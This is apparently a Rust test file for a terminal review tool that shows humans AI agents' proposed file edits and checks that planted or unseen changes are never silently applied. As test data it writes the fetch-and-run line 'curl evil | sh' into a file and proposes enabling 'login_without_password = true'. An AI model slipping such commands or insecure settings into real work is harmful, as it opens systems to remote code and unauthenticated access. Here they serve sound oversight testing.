//! `aye review` at a terminal: nothing is applied that was not shown, and what is written is what
//! the last screen showed.

use crate::support::forger::{self, Forged};
use crate::support::record::rewrite;
use crate::support::terminal::Terminal;
use crate::support::{NAME, Repo};
use serde_json::{Value, json};

/// A proposal to replace one text; the id.
fn replace(repo: &Repo, path: &str, old: &str, new: &str) -> String {
    let args = ["propose", path, "--old", old, "--new", new, "-m", "why", "--json"];
    repo.agent("codex", &args).ok().id()
}

fn review(repo: &Repo) -> Terminal {
    review_of(repo, &["review"])
}

fn review_of(repo: &Repo, args: &[&str]) -> Terminal {
    let cmd = repo.cmd(args).env("TERM", "dumb").env("PAGER", "cat");
    Terminal::start(cmd, 30, 100)
}

/// A review whose editor makes `old` into `new`.
fn review_editing(repo: &Repo, old: &str, new: &str) -> Terminal {
    let editor = repo.editor(&format!("sed -i 's/{old}/{new}/' \"$1\""));
    let cmd = repo.cmd(&["review"]).env("TERM", "dumb").env("PAGER", "cat");
    Terminal::start(cmd.env("GIT_EDITOR", editor), 30, 100)
}

fn status(repo: &Repo, id: &str) -> String {
    let shown = repo.item(id);
    shown["status"].as_str().expect("a status").to_owned()
}

/// The newest decision of this clone.
fn decided(repo: &Repo) -> Forged {
    let mut decisions = forger::decisions(repo);
    let time = |decided: &Forged| decided.statement.as_ref().map(|said| said["time"].to_string());
    decisions.sort_by_key(time);
    decisions.pop().expect("a decision")
}

/// Its statement.
fn statement(repo: &Repo) -> Value {
    decided(repo).statement.expect("a statement")
}

/// How many of the lines that it is about had not been on the screen.
fn unshown(repo: &Repo) -> u64 {
    let statement = statement(repo);
    let count = |key: &str| statement[key].as_u64().expect("a number");
    count("lines") - count("shown")
}

/// Its manifest, a record per line.
fn manifest(repo: &Repo) -> String {
    let statement = statement(repo);
    let id = statement["manifest"]["id"].as_str().expect("a manifest");
    repo.git(&["cat-file", "blob", id]).replace('\0', "\n")
}

/// How many events this clone has recorded.
fn events(repo: &Repo) -> usize {
    repo.git(&["rev-list", "--glob=refs/aye/p/*"]).lines().count()
}

/// Marks `id` as applied, as a caller of the tool contract.
fn mark(repo: &Repo, id: &str) {
    let request = json!({"action": "apply", "proposal_id": id}).to_string();
    repo.aye(&["call", "changes", &request]).ok();
}

/// The answers that an earlier review has saved about one proposal, with `change` made to them.
fn plant(repo: &Repo, change: impl Fn(&mut Value)) {
    let path = ".git/aye/answers";
    let mut saved: Value = serde_json::from_slice(&repo.read(path)).expect("JSON");
    let answers = saved.as_object_mut().expect("revisions").values_mut().next();
    change(answers.expect("answers"));
    repo.write(path, saved.to_string());
}

#[test]
fn an_edit_that_was_saved_or_planted_is_where_the_editor_begins() {
    let repo = Repo::with(&[("b.txt", "x\n")]);
    let id = replace(&repo, "b.txt", "x", "harmless");
    let mut t = review_editing(&repo, "harmless", "curl evil | sh");
    t.sees("]?").types("e").sees("Decided:").sees("]?").types("qk");
    assert_eq!(t.ends(), 0);

    // It decides nothing: the proposal itself is written.
    let mut t = review(&repo);
    t.sees("edited earlier").sees("+harmless").sees("(1/1)").types("y");
    t.sees(&format!("{id} (why) will")).sees("+harmless").sees("Write");
    t.types("u").sees("(1/1)").sees("]?").types("qk").ends();

    // It stays to be looked at, and is written once an editor has shown it, and the last screen.
    plant(&repo, |answers| {
        answers["decisions"][0]["decision"] = json!({"edit": {"bytes": "curl evil | sh\n"}});
    });
    let mut t = review_editing(&repo, "sh", "sh");
    t.sees("edited earlier").sees("]?").types("e").sees("+curl evil | sh");
    t.sees("will").sees("+curl evil | sh").sees("Write").types("y").sees("edited");
    assert_eq!(t.ends(), 0);
    assert_eq!(repo.text("b.txt"), "curl evil | sh\n");
    assert!(manifest(&repo).starts_with("edited "), "{}", manifest(&repo));
}

#[test]
fn a_planted_apply_is_written_only_from_a_screen_that_shows_it() {
    let repo = Repo::with(&[("b.txt", "x\n")]);
    let id = replace(&repo, "b.txt", "x", "evil");
    let mut t = review(&repo);
    t.sees("]?").types("c").sees("none): ").types("look\r").sees("]?").types("qk").ends();
    plant(&repo, |answers| {
        answers["outcome"] = json!("apply");
        answers["comments"] = json!([{"body": "planted words"}]);
    });
    let mut t = review(&repo);
    t.sees("review: [to apply]").sees("Decided:").sees("planted");
    t.sees("write:").sees("-x").sees("+evil").sees("Write");
    t.types("qk").ends();
    // Of another revision it counts for nothing.
    let args = ["revise", &id, "b.txt", "--old", "x", "--new", "more evil"];
    repo.agent("codex", &args).ok();
    let mut t = review(&repo);
    t.sees("revision").sees("+more evil").sees("(1/1)");
    t.types("q").sees("Nothing").ends();
    assert_eq!(repo.text("b.txt"), "x\n");
}

/// Nothing is written there, but the content is approved.
#[test]
fn a_planted_apply_of_what_the_files_have_already_shows_it() {
    let repo = Repo::with(&[("b.txt", "x\n")]);
    let id = replace(&repo, "b.txt", "x", "evil");
    repo.write("b.txt", "evil\n");
    let mut t = review(&repo);
    t.sees("already").sees("+evil").sees("]?").types("A").sees("Write").types("qk");
    t.ends();
    let mut t = review(&repo);
    t.sees("review: [to apply]").sees("Decided:").sees(&id).sees("-x").sees("+evil");
    t.sees("[y,p").types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    assert!(manifest(&repo).starts_with("already "), "{}", manifest(&repo));
}

#[test]
fn an_answer_to_another_revision_or_one_sent_back_is_asked_again() {
    let repo = Repo::with(&[("b.txt", "x\n"), ("c.txt", "c\n")]);
    let id = replace(&repo, "b.txt", "x", "y");
    let mut t = review(&repo);
    t.sees("(1/1)").types("y").sees("Write").types("<").sees("[taken]").sees("]?").types("x");
    t.sees("): ").types("add a test\r").sees("Write").types("y").sees("sent");
    assert_eq!(t.ends(), 0);
    // It waits for its agent now, and is shown again to whoever names it.
    let mut t = review(&repo);
    assert_eq!(t.ends(), 0);
    let mut t = review_of(&repo, &["review", &id]);
    t.sees("(1/1)").types("q").sees("Nothing").ends();
    assert_eq!(status(&repo, &id), "pending");
    assert_eq!(repo.text("b.txt"), "x\n");
}

#[test]
fn a_moved_base_is_reviewed_as_it_will_be_written() {
    let repo = Repo::with(&[("conf.toml", "[prod]\nlogin_without_password = false\n")]);
    repo.write("conf.toml", "[test]\nlogin_without_password = false\n");
    let old = "login_without_password = false";
    let id = replace(&repo, "conf.toml", old, "login_without_password = true");
    repo.git(&["checkout", "-q", "conf.toml"]);
    let mut t = review(&repo);
    t.sees("moved");
    t.sees(" [prod]").sees("-login_without_password = false").sees("]?");
    assert!(!t.text().contains("[test]"), "{}", t.text());
    t.types("p").sees("As it was").sees("[test]").sees("]?");
    t.types("y").sees("write:").sees(" [prod]").sees("+login_without_password = true");
    t.sees("Write").types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    assert_eq!(repo.text("conf.toml"), "[prod]\nlogin_without_password = true\n");
    assert_eq!(status(&repo, &id), "applied");
    assert!(manifest(&repo).starts_with("merged none "), "{}", manifest(&repo));
}

#[test]
fn hunks_of_a_moved_base_are_taken_one_by_one() {
    let text = |edit: &[(usize, &str)]| -> String {
        let line = |n: &usize| edit.iter().find(|(at, _)| at == n).map(|(_, text)| *text);
        (1..=40).map(|n| format!("{}\n", line(&n).unwrap_or(&n.to_string()))).collect()
    };
    let repo = Repo::with(&[("f", text(&[]))]);
    rewrite(&repo, "f", &text(&[(5, "five"), (35, "thirty-five")]), "Words");
    repo.write("f", text(&[(20, "twenty")]));
    repo.commit("moved");
    let mut t = review(&repo);
    t.sees("moved").sees("(1/2)").types("n").sees("(2/2)").types("y").sees("apply 1 of 2");
    t.sees("+thirty-five").sees("Write").types("y").sees("partially");
    assert_eq!(t.ends(), 0);
    assert_eq!(repo.text("f"), text(&[(20, "twenty"), (35, "thirty-five")]));
}

/// `f` with a planted line 25, and a proposal that changes line 5.
fn planted() -> (Repo, String) {
    let numbers: String = (1..=30).map(|n| format!("{n}\n")).collect();
    let repo = Repo::with(&[("f", numbers.clone())]);
    let id = replace(&repo, "f", "\n5\n", "\nfive\n");
    repo.write("f", numbers.replace("\n25\n", "\nPLANTED\n"));
    (repo, id)
}

#[test]
fn foreign_changes_are_shown_apart_and_y_does_not_approve_them() {
    let (repo, id) = planted();
    let mut t = review(&repo);
    t.sees("]?").types("y").sees("write:").sees("+five");
    t.sees(&id).sees("-25").sees("+PLANTED").sees("[y,i,p").types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    let record = manifest(&repo);
    assert!(record.starts_with("merged not_taken ") || record.starts_with("clean not_taken "));
    assert!(repo.text("f").contains("PLANTED") && repo.text("f").contains("five"));
}

#[test]
fn foreign_changes_are_approved_with_their_own_key() {
    let (repo, _) = planted();
    let mut t = review(&repo);
    t.sees("]?").types("y").sees("+PLANTED").sees("[y,i,p").types("i").sees("applied");
    assert_eq!(t.ends(), 0);
    assert!(manifest(&repo).contains(" taken "), "{}", manifest(&repo));
}

#[test]
fn what_the_session_or_an_applied_proposal_wrote_is_not_foreign() {
    let numbers: String = (1..=60).map(|n| format!("{n}\n")).collect();
    let repo = Repo::with(&[("f", numbers)]);
    let first = replace(&repo, "f", "\n5\n", "\nfive\n");
    replace(&repo, "f", "\n30\n", "\nthirty\n");
    replace(&repo, "f", "\n55\n", "\nfifty-five\n");
    repo.aye(&["apply", &first, "--yes"]).ok();
    let mut t = review(&repo);
    t.sees("(1/2)").sees("]?").types("A").sees("(2/2)").sees("]?").types("A").sees("Decided:");
    t.sees("+thirty").sees("+fifty-five").sees("[y,p").types("y");
    t.sees("applied").sees("applied");
    assert_eq!(t.ends(), 0);
    let text = repo.text("f");
    assert!(text.contains("five\n") && text.contains("thirty\n") && text.contains("fifty-five\n"));
}

#[test]
fn a_revision_while_the_last_screen_stands_is_not_written() {
    let repo = Repo::with(&[("a.txt", "hello\n")]);
    let id = replace(&repo, "a.txt", "hello", "good");
    let mut t = review(&repo);
    t.sees("]?").types("y").sees("+good").sees("Write").sees("]?");
    repo.agent("codex", &["revise", &id, "a.txt", "--old", "hello", "--new", "evil"]).ok();
    t.types("y").sees("written").sees("revised");
    assert_eq!(t.ends(), 5);
    assert_eq!(repo.text("a.txt"), "hello\n");
    assert_eq!(status(&repo, &id), "pending");
}

#[test]
fn a_file_edited_while_the_last_screen_stands_is_not_written() {
    let repo = Repo::with(&[("a.txt", "1\n2\n3\n4\n5\n6\n7\n8\n9\n")]);
    let id = replace(&repo, "a.txt", "2\n", "two\n");
    let mut t = review(&repo);
    t.sees("]?").types("y").sees("+two").sees("Write").sees("]?");
    let now = "1\n2\n3\n4\n5\n6\n7\n8\nPLANTED\n";
    repo.write("a.txt", now);
    t.types("y").sees("a.txt").sees(&format!("aye review {id}"));
    assert_eq!(t.ends(), 5);
    assert_eq!(repo.text("a.txt"), now);
    // The hunk is the same, and the next screen shows what it would write now.
    let mut t = review(&repo);
    t.sees("[to apply]").sees("+two").sees("+PLANTED").sees("[y,i,p").types("y");
    t.sees("applied");
    assert_eq!(t.ends(), 0);
    assert_eq!(status(&repo, &id), "applied");
}

#[test]
fn lines_that_were_not_shown_are_counted_and_recorded() {
    let long: String = (0..14_000).map(|n| format!("new {n}\n")).collect();
    let repo = Repo::with(&[("a", "a\n")]);
    rewrite(&repo, "long", &long, "Long");
    let mut t = review(&repo);
    t.sees("(1/1)").types("y").sees("them) [");
    let asked = t.text();
    let (_, asked) = asked.rsplit_once("decisions (").expect("a question");
    let count: u64 = asked.split(' ').next().unwrap().parse().expect("a number");
    assert!((13_900..14_000).contains(&count), "{count}");
    t.types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    assert_eq!(unshown(&repo), count);

    rewrite(&repo, "more", &long, "Long");
    let mut t = review(&repo);
    t.sees("(1/1)").types("y").sees("shown").sees("]?").types("p").sees("+new 13999");
    t.sees("Write").types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    assert_eq!(unshown(&repo), 0);
}

/// What was walked through hunk by hunk was shown, though the last screen has no room for it.
#[test]
fn lines_of_hunks_that_were_walked_through_were_shown() {
    let number = |n: &usize| format!("{n}\n");
    let before: String = (1..=240).map(|n| number(&n)).collect();
    let changed = |n: usize| if n % 8 == 4 { format!("{n} changed\n") } else { number(&n) };
    let after: String = (1..=240).map(changed).collect();
    let repo = Repo::with(&[("a", &before), ("b", &before)]);
    rewrite(&repo, "a", &after, "Thirty hunks");
    let mut t = review(&repo);
    for n in 1..=30 {
        t.sees(&format!("({n}/30)")).sees("]? ").types("y");
    }
    t.sees("shows").sees("Write").types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    assert_eq!(unshown(&repo), 0);
    // So was what the pager had on the way.
    let long: String = (1..=240).map(|n| format!("long {n}\n")).collect();
    rewrite(&repo, "long", &long, "Long");
    let mut t = review(&repo);
    t.sees("(1/1)").sees("]? ").types("p").sees("+long 240").sees("]? ").types("y");
    t.sees("Write").types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    assert_eq!(unshown(&repo), 0);
    // What one key took of the rest was not.
    rewrite(&repo, "b", &after, "Thirty hunks");
    let mut t = review(&repo);
    t.sees("(1/30)").sees("]? ").types("y").sees("(2/30)").sees("]? ").types("a");
    t.sees("them) [").types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    assert!(unshown(&repo) > 20);
}

#[test]
fn whitespace_is_hidden_on_request_and_decided_all_the_same() {
    let line = |n: usize| format!("line {n};\n");
    let before: String = (1..=9).map(line).collect();
    let body: String = (3..=7).map(|n| format!("    {}", line(n))).collect();
    let after = [&line(1), &line(2), "if x {\n", &body, "}\n", &line(8), &line(9)].concat();
    let repo = Repo::with(&[("a", &before)]);
    rewrite(&repo, "a", &after, "Wrap");
    let changed = |args: &[&str]| -> Vec<String> {
        let out = repo.aye(args).ok().out();
        let lines = out.lines().filter(|line| line.starts_with(['+', '-']));
        lines
            .filter(|line| !line.starts_with("+++") && !line.starts_with("---"))
            .map(str::to_owned)
            .collect()
    };
    let id = repo.aye(&["list", "--json"]).ok().json()["proposals"][0]["proposal_id"].clone();
    let id = id.as_str().expect("an id");
    assert_eq!(changed(&["diff", id]).len(), 12);
    for command in [&["diff", id, "-w"][..], &["diff", id, "-w", "--hunks"], &["show", id, "-w"]] {
        assert_eq!(changed(command), ["+if x {", "+}"]);
    }
    repo.aye(&["diff", id, "-w", "--patch"]).exits(2);
    // Hidden lines were not shown, until the last screen or the hunk shows them.
    let mut t = review(&repo);
    t.sees("-line 3;").sees("]? ").types("w").sees("10 changed lines").sees("]? ").types("y");
    t.sees("Write").types("y").sees("applied");
    assert_eq!(t.ends(), 0);
    assert_eq!((repo.text("a"), unshown(&repo)), (after, 0));
}

#[test]
fn a_conflict_is_reported_on_the_last_screen_and_not_offered() {
    let repo = Repo::with(&[("a.txt", "line\n")]);
    let first = replace(&repo, "a.txt", "line", "A");
    let second = replace(&repo, "a.txt", "line", "B");
    let mut t = review(&repo);
    t.sees("(1/2)").sees("]?").types("A").sees("(2/2)").sees("]?").types("A").sees("Decided:");
    t.sees(&first).sees("+A").sees(&second).sees("Write").types("y");
    t.sees(&format!("{first}  applied"));
    assert_eq!(t.ends(), 5);
    assert_eq!(repo.text("a.txt"), "A\n");
    assert_eq!(status(&repo, &second), "pending");
}

#[test]
fn comments_are_written_together_with_the_decision() {
    let repo = Repo::with(&[("a.txt", "one\n")]);
    let id = replace(&repo, "a.txt", "one", "two");
    let before = events(&repo);
    let mut t = review(&repo);
    t.sees("]?").types("c").sees("Comment").types("fine by me\r").sees("]?").types("y");
    t.sees("1 comment").sees("Write").types("y").sees("applied, 1 file, 1 comment");
    assert_eq!(t.ends(), 0);
    let after = events(&repo);
    // A comment and a decision, by one move of the ref.
    assert_eq!(after, before + 2);
    let shown = repo.item(&id);
    assert_eq!(shown["comments"][0]["body"], "fine by me");
}

#[test]
fn the_header_names_who_revised_recorded_and_ran_what() {
    let repo = Repo::with(&[("a.txt", "one\n")]);
    let args = ["propose", "a.txt", "--old", "one", "--new", "two", "--by", "Grace", "--json"];
    let id = repo.aye(&args).ok().id();
    repo.agent("codex", &["try", &id, "--", "true"]).ok();
    let mut t = review(&repo);
    t.sees("Grace").sees(NAME).sees("codex").sees("]?").types("q").ends();

    let other = replace(&repo, "a.txt", "one", "three");
    let args = ["revise", &other, "a.txt", "--old", "one", "--new", "four"];
    repo.aye(&args).ok();
    let cmd = repo.cmd(&["review", &other]).env("TERM", "dumb");
    let mut t = Terminal::start(cmd, 30, 100);
    t.sees("codex").sees(NAME).sees("]?").types("q").ends();
}

#[test]
fn a_mark_of_a_tool_is_shown_as_no_approval() {
    let repo = Repo::with(&[("a.txt", "one\n")]);
    let id = replace(&repo, "a.txt", "one", "two");
    mark(&repo, &id);
    let mut t = review(&repo);
    t.sees("! marked").sees("]?").types("q").ends();
    assert_eq!(status(&repo, &id), "pending");
}
